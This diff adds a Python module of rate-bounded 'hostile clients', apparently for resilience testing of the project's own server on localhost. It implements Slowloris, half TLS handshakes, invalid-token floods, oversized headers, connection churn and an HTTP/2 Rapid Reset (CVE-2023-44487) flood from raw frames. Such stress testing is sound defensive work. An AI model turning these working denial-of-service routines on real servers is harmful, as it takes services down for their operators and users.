@@ -1,0 +1,117 @@
+"""Hostile clients, each bounded in number and rate. A flood runs until it is cancelled, and tells what it got done."""
+
+import asyncio
+import collections
+import contextlib
+import itertools
+import ssl
+import time
+
+from harness.client import Connection, bearer
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS, HEADERS, RST_STREAM, GOAWAY = 4, 1, 3, 7
+# RFC 7541 §6.1 and §6.2.2: GET, https, / and :authority localhost, all from the static table.
+GET = b"\x82\x87\x84\x01\x09localhost"
+ENDS = (OSError, EOFError, TimeoutError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError)
+# The whole TLS record of a ClientHello would be longer than this says: the server waits for the rest.
+HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
+
+
+class Floods:
+    def __init__(self, place):
+        self.place, self.done = place, collections.Counter()
+
+    async def each(self, name, rate, action):
+        """Starts the action at this rate; those that are slow overlap, 100 at most."""
+        room, due = asyncio.Semaphore(100), time.monotonic()
+        async with asyncio.TaskGroup() as group:
+            while True:
+                due += 1 / rate
+                await asyncio.sleep(max(0, due - time.monotonic()))
+                await room.acquire()
+                group.create_task(self.once(name, action, room))
+
+    async def once(self, name, action, room):
+        with contextlib.suppress(*ENDS):
+            await asyncio.wait_for(action(), 15)
+        self.done[name] += 1
+        room.release()
+
+    async def keep(self, name, count, action):
+        """So many at a time, each begun again when it was ended."""
+        async def again():
+            while True:
+                with contextlib.suppress(*ENDS):
+                    await action()
+                self.done[name] += 1
+                await asyncio.sleep(0.5)
+
+        async with asyncio.TaskGroup() as group:
+            for _ in range(count):
+                group.create_task(again())
+                await asyncio.sleep(0.005)
+
+    async def slowloris(self):
+        """A head that never ends, a byte every five seconds."""
+        connection = await Connection.open(self.place)
+        try:
+            connection.writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
+            while not await self.is_ended(connection, 5):
+                connection.writer.write(b"x")
+        finally:
+            connection.vanish()
+
+    async def half_handshake(self):
+        """The beginning of a ClientHello, and silence."""
+        connection = await Connection.open(self.place, ssl=None)
+        try:
+            connection.writer.write(HALF_HELLO)
+            await connection.ended()
+        finally:
+            connection.vanish()
+
+    async def bad_tokens(self):
+        connection = await Connection.open(self.place)
+        try:
+            for number in range(10):
+                await connection.ask("GET", "/", bearer(f"nobody-{number}-{time.time()}"))
+        finally:
+            connection.vanish()
+
+    async def large_head(self):
+        connection = await Connection.open(self.place)
+        try:
+            connection.send("GET", "/", *(f"X-Large-{number}: {'x' * 1000}" for number in range(90)))
+            await connection.ended()
+        finally:
+            connection.vanish()
+
+    async def churn(self):
+        """A handshake, and gone."""
+        (await Connection.open(self.place)).vanish()
+
+    async def rapid_reset(self, streams=2000):
+        """Requests that are taken back at once (CVE-2023-44487), until GOAWAY."""
+        connection = await Connection.open(self.place, ssl=self.place.context("h2"))
+        try:
+            connection.writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
+            for stream in itertools.islice(itertools.count(1, 2), streams):
+                connection.writer.write(frame(HEADERS, 5, stream, GET) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
+                if stream % 200 == 1:
+                    await connection.writer.drain()
+            await connection.ended()
+        finally:
+            connection.vanish()
+
+    @staticmethod
+    async def is_ended(connection, patience):
+        with contextlib.suppress(TimeoutError):
+            await asyncio.wait_for(connection.ended(), patience)
+            return True
+        return False
+
+
+def frame(kind, flags, stream, payload):
+    """RFC 9113 §4.1."""
+    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload
